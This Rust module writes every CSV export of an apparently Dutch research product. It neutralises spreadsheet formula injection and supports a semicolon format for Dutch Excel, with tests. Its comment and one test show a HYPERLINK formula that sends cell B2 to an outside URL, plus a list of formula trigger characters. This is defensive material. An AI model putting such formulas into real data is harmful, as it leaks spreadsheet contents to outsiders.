//! The one CSV writer of the product: every CSV file it writes (answer export, codebooks, codes for
//! a mail merge, paper reports and mappings, open data, the complaints register, the audit log)
//! goes through [`Writer`], so every file is safe to open in a spreadsheet.
//!
//! The rule (OWASP, "CSV injection"): a spreadsheet runs a cell that starts with `=`, `+`, `-`,
//! `@`, a tab or a carriage return as a formula, so a resident who types
//! `=HYPERLINK("http://…"&B2;"klik hier")` as an open answer could make a researcher's spreadsheet
//! send data elsewhere. Such a text cell gets a single quote `'` in front, and the field is put in
//! double quotes. Numbers are left alone (`-3.2` stays a number for every program that reads the
//! file); a text that starts with quotes followed by one of those characters gets one more quote,
//! so [`restore`] gives back exactly what was written. Fields with a comma, semicolon, quote, tab
//! or line break are always quoted: Dutch Excel splits unquoted fields at the semicolon.
//!
//! Two flavours ([`Flavour`]): comma-separated with a decimal point and no byte order mark, for
//! programs (R, SPSS, Python) and spreadsheets set to English; or semicolon-separated with a UTF-8
//! byte order mark and a decimal comma, which Dutch Excel opens by a double click with accents
//! intact and `3,2` read as a number (it would read `3.2` as a date). Every download page offers
//! the choice; Dutch users get the semicolon chosen for them.
//!
//! A test (`tests/it/csv_safety.rs`) fails when code outside this module builds a `csv::Writer`.

use std::borrow::Cow;
use std::io::Write;

/// How the files are written, for the codebooks (in Dutch, like the files).
pub const CODEBOOK_NOTE: &str = "Veilig in een spreadsheet: een tekstcel die begint met =, +, -, @, een tab of een regelterugloop krijgt een enkel aanhalingsteken (') ervoor en staat tussen dubbele aanhalingstekens, zodat een spreadsheet er geen formule van maakt. Wie de oorspronkelijke tekst nodig heeft, haalt dat ene ' weg (ook als er na de aanhalingstekens nog een van die tekens volgt). Getallen, zoals -3.2, worden nooit veranderd.";

/// The UTF-8 byte order mark: tells Excel the file is UTF-8 (without it, "cliënt" comes out garbled).
pub const BOM: &[u8] = b"\xEF\xBB\xBF";

/// How a CSV file is laid out.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum Flavour {
    /// `,` between fields, `.` in decimals, no byte order mark (programs, English spreadsheets).
    #[default]
    Comma,
    /// `;` between fields, `,` in decimals, a UTF-8 byte order mark first (Dutch Excel).
    DutchExcel,
}

impl Flavour {
    /// The value of the choice on the download forms (`scheiding=puntkomma` or `komma`).
    pub fn code(self) -> &'static str {
        match self {
            Flavour::Comma => "komma",
            Flavour::DutchExcel => "puntkomma",
        }
    }

    /// The flavour chosen on a form; no choice (a script, an old link) keeps the comma file.
    pub fn from_choice(choice: Option<&str>) -> Flavour {
        match choice.map(str::trim) {
            Some("puntkomma") => Flavour::DutchExcel,
            _ => Flavour::Comma,
        }
    }

    fn delimiter(self) -> u8 {
        match self {
            Flavour::Comma => b',',
            Flavour::DutchExcel => b';',
        }
    }
}

/// First characters that make a spreadsheet read a cell as a formula.
pub const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A plain number as the product writes one: an optional sign, digits, and at most one decimal
/// point followed by digits (`7`, `-3.2`, `+12`). Such a cell is never changed.
pub fn is_number(cell: &str) -> bool {
    let digits = cell.strip_prefix(['-', '+']).unwrap_or(cell);
    let (whole, fraction) = match digits.split_once('.') {
        Some((w, f)) => (w, Some(f)),
        None => (digits, None),
    };
    let all_digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    all_digits(whole) && fraction.is_none_or(all_digits)
}

/// Whether a text cell needs the quote in front: it starts with a trigger (and is not a number),
/// or with quotes followed by a trigger (so that [`restore`] is exact).
fn needs_prefix(cell: &str) -> bool {
    if cell.starts_with(TRIGGERS) {
        return !is_number(cell);
    }
    cell.starts_with('\'') && cell.trim_start_matches('\'').starts_with(TRIGGERS)
}

/// The cell as written to a file: `'` in front of a text that a spreadsheet would run.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if needs_prefix(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// The original text of a cell read back from a file this product wrote (the inverse of
/// [`neutralise`]): one leading `'` is taken off when quotes and then a trigger follow.
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.trim_start_matches('\'').starts_with(TRIGGERS) => rest,
        _ => cell,
    }
}

/// Whether the field goes in double quotes: it holds a separator (comma or semicolon), a quote, a
/// tab or a line break, or starts with the added `'`.
fn needs_quotes(field: &str) -> bool {
    field.starts_with('\'')
        || field
            .bytes()
            .any(|b| matches!(b, b'"' | b',' | b';' | b'\n' | b'\r' | b'\t'))
}

/// A CSV writer (comma separated, `\n` between records, every record as long as the first) that
/// neutralises and quotes every field as described above. Wraps the `csv` crate, which keeps the
/// records, buffering and lengths; quoting is decided here, once, for every export.
pub struct Writer<W: Write> {
    inner: csv::Writer<Prefixed<W>>,
    scratch: String,
    flavour: Flavour,
}

/// The output with the byte order mark still to be written before the first byte, if due.
struct Prefixed<W: Write> {
    out: W,
    bom_pending: bool,
}

impl<W: Write> Prefixed<W> {
    fn start(&mut self) -> std::io::Result<()> {
        if self.bom_pending {
            self.bom_pending = false;
            self.out.write_all(BOM)?;
        }
        Ok(())
    }
}

impl<W: Write> Write for Prefixed<W> {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        self.start()?;
        self.out.write(buf)
    }

    fn flush(&mut self) -> std::io::Result<()> {
        self.start()?;
        self.out.flush()
    }
}

impl<W: Write> Writer<W> {
    /// A comma writer into `out` (buffered; call [`Writer::flush`] or [`Writer::into_inner`] at the end).
    pub fn from_writer(out: W) -> Writer<W> {
        Writer::with_flavour(out, Flavour::Comma)
    }

    /// A writer of the given flavour into `out`.
    pub fn with_flavour(out: W, flavour: Flavour) -> Writer<W> {
        Writer::build(out, flavour, false)
    }

    /// A writer; `flexible` lets records differ in length (for files read back as they were).
    fn build(out: W, flavour: Flavour, flexible: bool) -> Writer<W> {
        Writer {
            inner: csv::WriterBuilder::new()
                .quote_style(csv::QuoteStyle::Never)
                .delimiter(flavour.delimiter())
                .flexible(flexible)
                .from_writer(Prefixed {
                    out,
                    bom_pending: flavour == Flavour::DutchExcel,
                }),
            scratch: String::new(),
            flavour,
        }
    }

    /// Writes one field of the current record.
    pub fn write_field(&mut self, field: &str) -> csv::Result<()> {
        if self.flavour == Flavour::DutchExcel && field.contains('.') && is_number(field) {
            // A decimal comma, so Dutch Excel reads a number (a number has no `;` to quote).
            self.scratch.clear();
            self.scratch.push_str(&field.replace('.', ","));
            return self.inner.write_field(self.scratch.as_bytes());
        }
        let cell = neutralise(field);
        if !needs_quotes(&cell) {
            return self.inner.write_field(cell.as_bytes());
        }
        self.scratch.clear();
        self.scratch.push('"');
        for c in cell.chars() {
            if c == '"' {
                self.scratch.push('"');
            }
            self.scratch.push(c);
        }
        self.scratch.push('"');
        self.inner.write_field(self.scratch.as_bytes())
    }

    /// Ends the current record.
    pub fn end_record(&mut self) -> csv::Result<()> {
        self.inner.write_record(None::<&[u8]>)
    }

    /// Writes a whole record.
    pub fn write_record<I, T>(&mut self, record: I) -> csv::Result<()>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<str>,
    {
        for field in record {
            self.write_field(field.as_ref())?;
        }
        self.end_record()
    }

    /// Writes what is buffered to the underlying writer.
    pub fn flush(&mut self) -> std::io::Result<()> {
        self.inner.flush()
    }

    /// Flushes and gives back the underlying writer.
    pub fn into_inner(self) -> anyhow::Result<W> {
        let mut out = self
            .inner
            .into_inner()
            .map_err(|e| anyhow::Error::new(e.into_error()).context("CSV niet geschreven"))?;
        // An empty file still says it is UTF-8.
        out.start()?;
        Ok(out.out)
    }
}

/// Writes rows into memory (for small files such as a codebook); the bytes of the file.
pub fn to_vec<I, R, T>(rows: I) -> anyhow::Result<Vec<u8>>
where
    I: IntoIterator<Item = R>,
    R: IntoIterator<Item = T>,
    T: AsRef<str>,
{
    let mut w = Writer::from_writer(vec![]);
    for row in rows {
        w.write_record(row)?;
    }
    w.into_inner()
}

/// A comma file this product wrote (kept as text, such as a paper report), in another flavour:
/// each cell is read back ([`restore`]) and written again, so nothing is neutralised twice.
pub fn recode(comma_file: &[u8], flavour: Flavour) -> anyhow::Result<Vec<u8>> {
    if flavour == Flavour::Comma {
        return Ok(comma_file.to_vec());
    }
    let mut r = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(comma_file);
    let mut w = Writer::build(vec![], flavour, true);
    for record in r.records() {
        let record = record?;
        for field in record.iter() {
            w.write_field(restore(field))?;
        }
        w.end_record()?;
    }
    w.into_inner()
}

/// Like [`to_vec`], in the given flavour.
pub fn to_vec_as<I, R, T>(rows: I, flavour: Flavour) -> anyhow::Result<Vec<u8>>
where
    I: IntoIterator<Item = R>,
    R: IntoIterator<Item = T>,
    T: AsRef<str>,
{
    let mut w = Writer::with_flavour(vec![], flavour);
    for row in rows {
        w.write_record(row)?;
    }
    w.into_inner()
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn written(fields: &[&str]) -> String {
        String::from_utf8(to_vec([fields]).unwrap()).unwrap()
    }

    #[test]
    fn formulas_get_a_quote_and_double_quotes() {
        let attack = "=HYPERLINK(\"http://x\"&B2,\"klik hier\")";
        assert_eq!(
            written(&[attack]),
            "\"'=HYPERLINK(\"\"http://x\"\"&B2,\"\"klik hier\"\")\"\n"
        );
        for cell in [
            "=1+1",
            "+31 6 1234",
            "-2+3",
            "@SUM(A1)",
            "\tx",
            "\rx",
            "-",
            "+",
        ] {
            let out = neutralise(cell);
            assert_eq!(out, format!("'{cell}"), "{cell:?}");
            assert!(written(&[cell]).starts_with("\"'"), "{cell:?} is quoted");
        }
    }

    #[test]
    fn numbers_and_plain_text_are_left_alone() {
        for cell in [
            "-3.2",
            "-1.5",
            "+12",
            "7",
            "0.5",
            "3.",
            "Goed geholpen",
            "",
            "'s-Hertogenbosch",
        ] {
            let expect_number = matches!(cell, "-3.2" | "-1.5" | "+12" | "7" | "0.5");
            assert_eq!(is_number(cell), expect_number, "{cell:?}");
        }
        assert_eq!(
            written(&["-3.2", "7", "", "Goed geholpen"]),
            "-3.2,7,,Goed geholpen\n"
        );
        assert_eq!(neutralise("'s-Hertogenbosch"), "'s-Hertogenbosch");
        assert_eq!(restore("'s-Hertogenbosch"), "'s-Hertogenbosch");
        // Not numbers: a spreadsheet could still compute these.
        for cell in ["-1e5", "-inf", "-NaN", "--1", "-1.2.3", "-.5", "-1,5"] {
            assert!(!is_number(cell), "{cell:?}");
            assert_eq!(neutralise(cell), format!("'{cell}"));
        }
    }

    #[test]
    fn separators_are_always_quoted() {
        // Dutch Excel splits at the semicolon; an unquoted one would start a new cell.
        assert_eq!(written(&["a;=1+1", "b"]), "\"a;=1+1\",b\n");
        assert_eq!(written(&["Regel 1\nRegel 2"]), "\"Regel 1\nRegel 2\"\n");
    }

    #[test]
    fn a_text_that_looks_neutralised_already_is_kept_apart() {
        assert_eq!(neutralise("'=1"), "''=1");
        assert_eq!(restore("''=1"), "'=1");
        assert_eq!(restore("'=1"), "=1");
    }

    #[test]
    fn records_must_be_as_long_as_the_first() {
        let mut w = Writer::from_writer(vec![]);
        w.write_record(["a", "b"]).unwrap();
        assert!(w.write_record(["c"]).is_err());
    }

    #[test]
    fn the_dutch_flavour_has_a_bom_semicolons_and_decimal_commas() {
        let rows = [
            ["naam", "cijfer", "tekst"],
            ["cliënt", "7.5", "a;b, c"],
            ["x", "-3.2", "=1+1"],
        ];
        let nl = to_vec_as(rows, Flavour::DutchExcel).unwrap();
        assert!(nl.starts_with(BOM));
        let text = std::str::from_utf8(&nl[BOM.len()..]).unwrap();
        assert_eq!(
            text,
            "naam;cijfer;tekst\ncliënt;7,5;\"a;b, c\"\nx;-3,2;\"'=1+1\"\n"
        );
        let plain = to_vec_as(rows, Flavour::Comma).unwrap();
        assert!(!plain.starts_with(BOM));
        assert!(std::str::from_utf8(&plain)
            .unwrap()
            .starts_with("naam,cijfer,tekst\ncliënt,7.5,"));
        // An empty file still says it is UTF-8.
        let empty = Writer::with_flavour(vec![], Flavour::DutchExcel)
            .into_inner()
            .unwrap();
        assert_eq!(empty, BOM);
    }

    #[test]
    fn a_stored_comma_file_is_recoded_without_quoting_twice() {
        let comma = to_vec([["regel", "waarde"], ["3", "=1+1"], ["4", "2.5"]]).unwrap();
        let nl = recode(&comma, Flavour::DutchExcel).unwrap();
        assert_eq!(
            std::str::from_utf8(&nl[BOM.len()..]).unwrap(),
            "regel;waarde\n3;\"'=1+1\"\n4;2,5\n"
        );
        assert_eq!(recode(&comma, Flavour::Comma).unwrap(), comma);
    }

    #[test]
    fn the_choice_is_read_from_the_form() {
        assert_eq!(Flavour::from_choice(Some("puntkomma")), Flavour::DutchExcel);
        assert_eq!(Flavour::from_choice(Some("komma")), Flavour::Comma);
        assert_eq!(Flavour::from_choice(None), Flavour::Comma);
        assert_eq!(Flavour::from_choice(Some("iets")), Flavour::Comma);
    }

    proptest! {
        #[test]
        fn restore_gives_back_what_was_written(cell in "['=+\\-@\t\r a-z0-9.,;\"]{0,12}") {
            let out = neutralise(&cell);
            prop_assert_eq!(restore(&out), cell.as_str());
            prop_assert!(!out.starts_with(TRIGGERS) || is_number(&out));
        }

        #[test]
        fn a_csv_reader_gets_the_neutralised_cells_back(cells in proptest::collection::vec("[=+\\-@ a-z0-9.,;\"\n]{0,8}", 1..6)) {
            let bytes = to_vec([&cells]).unwrap();
            let mut r = csv::ReaderBuilder::new().has_headers(false).from_reader(&bytes[..]);
            let rec = r.records().next().unwrap().unwrap();
            let back: Vec<String> = rec.iter().map(|c| restore(c).to_string()).collect();
            prop_assert_eq!(back, cells);
        }
    }
}
